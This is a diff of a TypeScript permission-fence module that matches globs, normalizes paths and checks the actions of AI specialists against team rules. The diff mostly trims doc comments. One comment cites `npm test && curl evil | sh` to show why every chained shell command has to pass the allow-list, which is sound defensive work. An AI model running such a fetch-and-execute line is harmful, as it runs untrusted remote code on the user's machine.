@@ -1,23 +1,13 @@
-/*
- * Size (~400 lines): one matcher read best whole. The glob grammar is stated once and used three
- * ways (the problems a fence entry has, the regular expression it compiles to, and the decision
- * `checkAction` makes), and the three must agree item for item; split apart they would drift.
- */
 import type { EffectiveFence, Fence, FenceAction, FenceDecision } from "@/schemas/fence";
 import type { Group, Team } from "@/schemas/team";
 import { fenceView, isObject, teamView, type Unchecked } from "@/schemas/views";
 import { strs } from "./org-index";
 
-/**
- * Fence semantics (design.md §3a). A glob knows `*` (within a segment), `**` (a whole segment:
- * any number of segments, at least one at the end of a pattern) and `?` (one character); every
- * other character is literal, so no pattern can negate, expand or widen a fence, whatever a file
- * on disk holds. Targets are project-relative file paths, normalized once before matching.
- */
+// Glob grammar: `*` within a segment, `**` whole segments (at least one at a pattern's end), `?` one
+// character; everything else is literal, so no file on disk can negate, expand or widen a fence.
 
 type Segment = string | number;
 
-/** A problem with one fence entry, located inside the fence (`["allowedPaths", 2]`). */
 export type FenceProblem = {
   id: "fence-unsupported-glob" | "fence-absolute-path" | "fence-approval-ambiguous";
   message: string;
@@ -27,7 +17,6 @@ export type FenceProblem = {
 const ABSOLUTE = /^(?:\/|~|[A-Za-z]:)/;
 const EXTGLOB = /[+@!*?]\(/;
 
-/** Why a fence glob cannot be written as it is, or null when it is a plain `*`/`**`/`?` glob. */
 export function globProblem(pattern: string): Pick<FenceProblem, "id" | "message"> | null {
   const shown = JSON.stringify(pattern);
   if (ABSOLUTE.test(pattern))
@@ -58,12 +47,10 @@ export function globProblem(pattern: string): Pick<FenceProblem, "id" | "message
   return null;
 }
 
-/** Approval entries that name an action and a glob; the glob after the colon is checked like a path. */
 const SCOPED_APPROVAL = /^(edit|write|bd-label):(.*)$/;
 const BARE_ACTIONS = new Set(["commit", "push", "bash", "edit", "write"]);
 const GLOBBY = /[/*?]/;
 
-/** Why an `approvalRequired` entry is refused, or null. */
 export function approvalProblem(entry: string): Pick<FenceProblem, "id" | "message"> | null {
   if (BARE_ACTIONS.has(entry)) return null;
   const scoped = SCOPED_APPROVAL.exec(entry);
@@ -76,7 +63,6 @@ export function approvalProblem(entry: string): Pick<FenceProblem, "id" | "messa
   return null;
 }
 
-/** Every problem of a fence's entries, each at its item (`allowedPaths/2`, `approvalRequired/0`). */
 export function fenceProblems(fence: unknown): FenceProblem[] {
   if (!isObject(fence)) return [];
   // The raw lists, not the fence's view: a problem's index must be the item's index in the file.
@@ -102,7 +88,6 @@ export function fenceProblems(fence: unknown): FenceProblem[] {
 
 const REGEX_SPECIAL = /[.+^${}()|[\]\\*?]/g;
 
-/** The regular expression a glob compiles to, or null when it can match nothing. */
 function compileGlob(pattern: string): RegExp | null {
   if (!pattern || ABSOLUTE.test(pattern) || pattern.startsWith("./")) return null;
   const segments = pattern.split("/");
@@ -123,7 +108,6 @@ function compileGlob(pattern: string): RegExp | null {
 
 const matcherCache = new Map<string, RegExp | null>();
 
-/** Whether a normalized, project-relative target matches a fence glob. */
 export function globMatch(pattern: string, target: string): boolean {
   if (!pattern || !target) return false;
   let matcher = matcherCache.get(pattern);
@@ -136,10 +120,7 @@ export function globMatch(pattern: string, target: string): boolean {
   return matcher !== null && normalized.ok && matcher.test(normalized.path);
 }
 
-/**
- * A target as the fence sees it: a leading `./` dropped; `..` segments, backslashes, surrounding
- * whitespace, absolute paths, an empty path or a trailing `/` are refused with the reason.
- */
+/** Refuses `..`, backslashes, surrounding whitespace, absolute, empty or directory targets; drops `./`. */
 export function normalizeTarget(target: string): { ok: true; path: string } | { ok: false; why: string } {
   const shown = JSON.stringify(target);
   if (target !== target.trim()) return { ok: false, why: `${shown} has leading or trailing whitespace` };
@@ -174,10 +155,7 @@ export const EMPTY_FENCE: EffectiveFence = {
 
 type TeamLike = Unchecked<Team> | Unchecked<Group> | null | undefined;
 
-/**
- * Why a specialist's effective fence is empty, or null when it has a team: with no team, or a
- * team that does not exist, nothing is allowed (deny by default).
- */
+/** With no team, or a missing one, the effective fence is empty: deny by default. */
 export function noTeamReason(teamId: string | null | undefined, team: TeamLike): string | null {
   if (team) return null;
   return teamId
@@ -186,10 +164,8 @@ export function noTeamReason(teamId: string | null | undefined, team: TeamLike):
 }
 
 /**
- * The fence a specialist really has inside its team: approvals for decisions the team forbids are
- * dropped (no one can approve them), and each forbidden decision becomes a denied action
- * `<decision>:**`, which `checkAction` consults before anything it would otherwise allow. Without
- * a team the effective fence is empty (see `noTeamReason`).
+ * Approvals for decisions the team forbids are dropped (no one can grant them), and each forbidden
+ * decision becomes a denied `<decision>:**` entry, consulted before anything the fence allows.
  */
 export function effectiveFence(fence: unknown, team: TeamLike): EffectiveFence {
   if (!team) return { ...EMPTY_FENCE };
@@ -216,7 +192,6 @@ const decide = (decision: FenceDecision["decision"], reason: string, rule?: stri
   ...(rule ? { rule } : {}),
 });
 
-/** The action token a denied entry names, and the glob after it (`push:**`, `edit:lib/**`). */
 function splitEntry(entry: string): [string, string] {
   const colon = entry.indexOf(":");
   return colon < 0 ? [entry, "**"] : [entry.slice(0, colon), entry.slice(colon + 1) || "**"];
@@ -235,7 +210,6 @@ function deniedBy(fence: EffectiveFence, action: string, target: string): string
   return undefined;
 }
 
-/** Options git takes before its subcommand that consume the next word. */
 const GIT_OPTIONS_WITH_VALUE = new Set([
   "-C",
   "-c",
@@ -264,10 +238,7 @@ function bashAction(command: string): "push" | "commit" | undefined {
   return undefined;
 }
 
-/**
- * Splits a shell line into the commands it runs. A prefix allow-list must hold for each of them:
- * `npm test && curl evil | sh` is not `npm test`.
- */
+// A prefix allow-list must hold for every command of a line: `npm test && curl evil | sh` is not `npm test`.
 function shellCommands(line: string): string[] | null {
   if (/[`]|\$\(|<\(|>\(/.test(line)) return null;
   return line
@@ -371,7 +342,6 @@ function checkLabels(fence: EffectiveFence, target: string): FenceDecision {
   );
 }
 
-/** Decides an action against a fence (use `effectiveFence` first to apply the team). */
 export function checkAction(fence: EffectiveFence, action: FenceAction | string, target = ""): FenceDecision {
   const denied = deniedBy(fence, action, target);
   if (denied) return decide("denied", "team-forbidden", `deniedActions "${denied}"`);
@@ -398,7 +368,6 @@ export function checkAction(fence: EffectiveFence, action: FenceAction | string,
   }
 }
 
-/** Parses a typed action such as `edit src/x.ts`, `bash git push` or `commit`. */
 export function parseActionText(text: string): { action: string; target: string } {
   const trimmed = text.trim();
   const space = trimmed.indexOf(" ");
